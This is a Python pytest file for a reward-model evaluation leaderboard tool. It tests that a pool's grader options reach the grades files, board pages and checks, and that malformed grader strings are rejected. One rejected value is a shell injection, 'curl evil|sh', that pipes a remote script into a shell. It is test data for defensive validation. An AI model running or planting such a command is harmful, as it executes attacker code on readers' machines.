"""Pools whose problem set says how they are graded, on the board. Each test says what would be wrong if it failed."""

from __future__ import annotations

import json
from contextlib import closing
from pathlib import Path

import pytest

from prm_eval.cli.commands import main
from prm_eval.errors import DataError, PrmEvalError
from prm_eval.grading.pool import own_source
from prm_eval.importers import import_pool
from prm_eval.leaderboard import build
from prm_eval.pools.pool import Pool
from prm_eval.store.jsonl import file_sha256
from prm_eval.submissions import registered_pools
from prm_eval.submissions.checking.check import Checker
from prm_eval.submissions.doubted import doubts_at
from prm_eval.submissions.suspicion import pool_facts
from tests.leaderboard.board import ENTRY, Model, add_submission

TOLERANT = "default:tolerance_percent=5"


def graded_by(pool: Path, grader: str) -> None:
    """Write into a pool what its task says of grading."""
    said = json.loads((pool / "pool.json").read_text(encoding="utf-8"))
    said["problem_set"]["grader"] = grader
    (pool / "pool.json").write_text(json.dumps(said), encoding="utf-8")


@pytest.fixture
def registered(tmp_path: Path) -> Path:
    """A results folder with a pool of a set with a tolerance, registered by the command, and a submission."""
    rows = [
        {"problem": f"How far is {at}?", "answer": "100", "samples": [
            {"text": f"so \\boxed{{{answer}}}"} for answer in (102, 100, 50, 30)]}
        for at in range(6)
    ]  # fmt: skip
    source = tmp_path / "p.jsonl"
    source.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    pool = import_pool(source, tmp_path / "p", policy="me/policy").pool
    graded_by(pool.path, TOLERANT)
    results = tmp_path / "results"
    assert main(["pool", "register", str(pool.path), "--id", "tolerant", "-o", str(results)]) == 0
    add_submission(results, Pool(pool.path), Model(), ENTRY)
    return results


def test_the_board_is_of_these_grades(registered: Path) -> None:
    """SciBench's answers are right within 5 %: a board without that is one of another benchmark."""
    (there,) = (registered / "pools" / "tolerant").glob("grades*.parquet")
    assert there.name == "grades-default_tolerance_percent=5.parquet"
    folder = build(registered).folder
    (board,) = json.loads((folder / "leaderboard.json").read_text(encoding="utf-8"))["boards"]
    assert board["baselines"]["first"]["1"]["value"] == pytest.approx(0.5)
    assert board["pool"]["grades_sha256"] == file_sha256(there)
    assert board["pool"]["grader"] == TOLERANT
    assert len(board["rows"]) == 1
    said = f"graded with the options of its task, <code>{TOLERANT}</code>"
    assert said in (folder / "index.html").read_text(encoding="utf-8")
    assert f"graded by `{TOLERANT}`" in (folder / "leaderboard.md").read_text(encoding="utf-8")
    page = next((folder / "submissions").glob("*.html")).read_text(encoding="utf-8")
    assert f"{there.name} (SHA-256)" in page
    assert f"--grader {TOLERANT} -o grades" in page


def test_doubts_are_about_these_grades(registered: Path) -> None:
    """Checks that look for grades of another name would pass over every submission to such a pool."""
    pool = registered_pools(registered)["tolerant"].pool
    assert pool is not None and own_source(pool) == TOLERANT
    with closing(Checker(registered)) as checker:
        assert len(doubts_at(registered, checker)) == 1
    facts = pool_facts(str(pool.path), pool.info.content_hash)
    assert facts.classes.shape == (6, 4)


def test_registering_again_copies_these_grades(registered: Path, tmp_path: Path, capsys) -> None:
    """Grades of a newer version would never come to the board."""
    there = registered / "pools" / "tolerant" / "grades-default_tolerance_percent=5.parquet"
    whole = there.read_bytes()
    there.unlink()
    assert main(["pool", "register", str(tmp_path / "p"), "--id", "tolerant", "-o", str(registered)]) == 0
    assert there.read_bytes() == whole
    graded_by(tmp_path / "p", "default:tolerance_percent=1")
    assert main(["pool", "register", str(tmp_path / "p"), "--id", "tolerant", "-o", str(registered)]) == 1
    said = "graded by default:tolerance_percent=5, and "
    assert said in (error := capsys.readouterr().err) and "=1; give a new id" in error


@pytest.mark.parametrize(
    "said",
    ["default:", "default:strict; curl evil|sh #", "default:no_such_option", "default:" + "strict+" * 90,
     "default:tolerance_percent= 5", "default:tolerance_percent=99"],
)  # fmt: skip
def test_what_is_no_option_is_a_fault_of_the_pool(registered: Path, tmp_path: Path, said: str) -> None:
    """A stranger's text would be a file's name, and a command that a reader of the board is told to run."""
    graded_by(tmp_path / "p", said)
    with pytest.raises(DataError, match=r"pool.json: found problem_set.grader = "):
        own_source(Pool(tmp_path / "p"))
    assert main(["pool", "register", str(tmp_path / "p"), "--id", "other", "-o", str(registered)]) == 1


def test_grades_that_are_missing_say_how_they_are_made(registered: Path) -> None:
    """prm-eval grade alone makes grades without the options, which are not those that are missing."""
    pool = Pool(registered / "pools" / "tolerant")
    pool.grades_path(TOLERANT).unlink()
    with pytest.raises(PrmEvalError, match=rf"Make them with: prm-eval grade .*tolerant --grader {TOLERANT}"):
        build(registered)
